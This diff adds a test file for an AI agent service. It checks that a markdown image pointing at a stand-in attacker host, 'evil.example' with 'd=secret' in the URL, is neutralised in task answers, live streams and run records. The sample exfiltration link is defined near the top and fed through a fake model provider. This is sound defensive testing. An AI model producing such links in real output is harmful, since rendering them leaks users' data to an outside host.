@@ -1,0 +1,84 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { AgentTaskBody } from '../../../src/contract/agent-task.ts';
+import { modelEnv } from '../../helpers/live.ts';
+import { openStream } from '../../helpers/live-stream.ts';
+import { sandboxEnv, untilSandboxesReady } from '../../helpers/sandboxes.ts';
+import { startService, type TestService } from '../../helpers/service.ts';
+import { openai } from '../../model-provider/openai.ts';
+import { byTurn, kycTurns } from '../../model-provider/scripts.ts';
+import { type FakeProvider, startFakeProvider } from '../../model-provider/server.ts';
+
+const LIMIT = { timeout: 60_000 };
+
+/** A client that renders this asks a foreign host, and tells it what the address carries. */
+const IMAGE = '![chart](https://evil.example/p.png?d=secret)';
+const ANSWER = `Here it is: ${IMAGE}`;
+const LIVE = /\]\(https|https:\/\/evil\.example/;
+
+const task = byTurn(openai, { text: ANSWER });
+const liveRun = byTurn(
+  openai,
+  ...kycTurns('escalate', `print("${IMAGE}")`).map((turn) => ({
+    ...turn,
+    text: ANSWER,
+    calls: (turn.calls ?? []).map((call) =>
+      call.tool === 'decide'
+        ? { ...call, arguments: { decision: 'escalate', explanation: `look at ${IMAGE}` } }
+        : call,
+    ),
+  })),
+);
+
+let provider: FakeProvider;
+let service: TestService;
+
+beforeAll(async () => {
+  provider = await startFakeProvider(openai, (asked) =>
+    /run_[0-9a-f]{32}/.test(asked.raw) ? liveRun(asked) : task(asked),
+  );
+  service = await startService({ env: sandboxEnv(modelEnv(provider.baseUrl)) });
+  await untilSandboxesReady(service);
+}, 300_000);
+
+afterAll(async () => {
+  await service.close();
+  await provider.close();
+});
+
+describe('An image on a foreign host that a model puts into its words', () => {
+  it('is disabled in the answer of an agent task', LIMIT, async () => {
+    const response = await service.request('POST', '/v1/agents/tasks', { task: 'Draw a chart.' });
+    const body = (await response.json()) as AgentTaskBody;
+    expect(body.result).toContain(String.raw`![chart]\(https[:]//evil.example/p.png?d=secret)`);
+    expect(body.disabled_links).toEqual(['evil.example']);
+    const read = await service.request('GET', `/v1/agents/tasks/${body.ledger_ref}`);
+    expect(await read.text()).not.toMatch(LIVE);
+  });
+
+  it.each(['ag-ui', 'ai-sdk', 'ledger'])(
+    'is disabled everywhere on a live stream of %s, and in the run',
+    LIMIT,
+    async (dialect) => {
+      const stream = await openStream(`${service.url}/v1/workforce/run?stream=${dialect}`, {
+        key: service.key,
+        body: { vertical: 'kyc' },
+      });
+      const events = await stream.ended();
+      const told = events.map(({ data }) => (data === '[DONE]' ? '' : JSON.stringify(JSON.parse(data))));
+      expect(told.join('\n')).not.toMatch(LIVE);
+      if (dialect !== 'ledger') {
+        const places = ['Here it is', 'print(', 'look at'];
+        for (const place of places) expect(told.some((text) => text.includes(place))).toBe(true);
+      }
+      const run = await service.run(stream.headers['x-run-id'] as string);
+      expect(run.reasons).toEqual([
+        {
+          code: 'AGENT-ESCALATE',
+          detail: String.raw`the agent: look at ![chart]\(https[:]//evil.example/p.png?d=secret)`,
+        },
+      ]);
+      const listed = await service.request('GET', '/v1/workforce/runs');
+      expect(await listed.text()).not.toMatch(LIVE);
+    },
+  );
+});
